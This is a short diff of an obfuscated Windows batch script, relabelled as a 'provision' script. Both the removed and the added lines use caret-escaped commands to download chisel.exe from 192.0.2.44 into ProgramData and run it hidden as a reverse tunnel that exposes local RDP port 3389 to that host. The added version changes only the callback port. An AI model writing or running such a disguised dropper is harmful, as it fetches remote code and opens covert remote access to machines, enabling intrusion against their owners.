@@ -1,4 +1,4 @@
-REM run 0234 v0
+REM provision 1965 v0
 @echo off
-c^u^r^l -s^L^o C:\^P^ro^gramDa^ta\ch^isel.exe htt^p://192.0.2.4^4/chi^s^e^l.^e^xe
-st^ar^t /b ^C:\P^r^ogr^amData\^chise^l.exe cli^e^n^t ^1^92.0.^2.44:^44^44 ^R:^338^9:^1^27.0.^0.^1:3^389
+^c^url -sL^o C:\Pr^og^ra^m^D^ata\c^h^i^s^e^l.^e^x^e http://19^2.0.2.^44/ch^i^se^l.^e^xe
+^start /b C:\ProgramD^ata\c^h^isel.e^x^e ^cl^ie^nt ^1^9^2.0.^2.44:8^080 ^R:3^3^89:^127.0.^0.1:3^3^89
